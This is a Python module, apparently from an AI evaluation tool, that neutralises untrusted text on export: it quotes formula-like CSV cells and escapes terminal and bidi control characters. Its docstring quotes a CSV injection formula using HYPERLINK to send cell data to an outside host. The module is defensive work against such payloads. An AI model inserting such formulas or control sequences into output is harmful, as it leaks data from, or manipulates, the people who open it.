"""Untrusted text on its way out (SPEC §11): CSV that a spreadsheet cannot run, JSON and text
that a terminal cannot obey.

A model's reply, a vote's reason, a provider's error are written by someone else. Three ways
they could act on the reader rather than be read:

- **CSV formulas.** A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and
  some strip a leading tab or carriage return first): ``=HYPERLINK("http://…?d="&A1,"click")``
  sends the sheet's cells away. Every CSV the workbench writes goes through :func:`write_csv`,
  which writes such a cell with a leading ``'``, unless the cell is a number (``-5``, ``+3.2``).
- **Terminal controls.** ESC sequences recolour, move the cursor, retitle the window or (OSC 52)
  write the clipboard; a bidi override reorders what is shown. Text printed to stdout goes through
  :func:`for_terminal` (``limits.printable`` keeping newlines and tabs), always, not only on a
  terminal: a pipe often ends in ``less -R`` or a CI log that renders them. A file written with
  ``--out`` keeps the exact text.
- **JSON.** :func:`json_text` escapes what ``json.dumps`` leaves raw (DEL, C1, bidi controls,
  U+2028/9, the BOM, lone surrogates) as ``\\uXXXX``: the same value once parsed, so a JSON
  output is both exact and terminal-safe, on stdout and in a file alike.

docs/reports.md "Untrusted text in exports" states the rules for users.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

from workbench.core.limits import CONTROLS_ABOVE_C0, printable

# SPEC §11: a cell starting with one of these, and not a number, is written with a leading "'".
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|inf|infinity|nan)", re.IGNORECASE)
# What JSON leaves raw that a terminal acts on (JSON escapes C0 itself); only ever inside a string.
JSON_UNSAFE = re.compile(f"[{CONTROLS_ABOVE_C0}]")


def json_escape(found: re.Match) -> str:
    """A character matched by :data:`JSON_UNSAFE` as a JSON ``\\uXXXX`` escape."""
    return f"\\u{ord(found.group()):04x}"


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows rather than runs: a text that starts like a
    formula gets a leading ``'`` (the spreadsheets' own mark for "this is text"); a number, and
    a text that is one (``-5``, ``+3.2``, ``-1e5``), stays as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_csv(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]], *,
              lineterminator: str = "\r\n") -> None:
    """``header`` then ``rows`` as CSV into ``out``, every cell through :func:`csv_cell` (the
    header too: a column may be named after untrusted data)."""
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])


def json_text(value: Any, **dumps_options: Any) -> str:
    """``json.dumps(value, ensure_ascii=False, ...)`` with every control character escaped: the
    same value for any JSON reader, and nothing a terminal acts on (JSON escapes C0 itself)."""
    text = json.dumps(value, ensure_ascii=False, **dumps_options)
    return JSON_UNSAFE.sub(json_escape, text)


def for_terminal(text: str) -> str:
    """A document (Markdown, CSV, HTML, a table) for stdout: newlines and tabs kept, every other
    control escaped (``\\x1b``, ``\\u202e``)."""
    return printable(text, keep_lines=True)
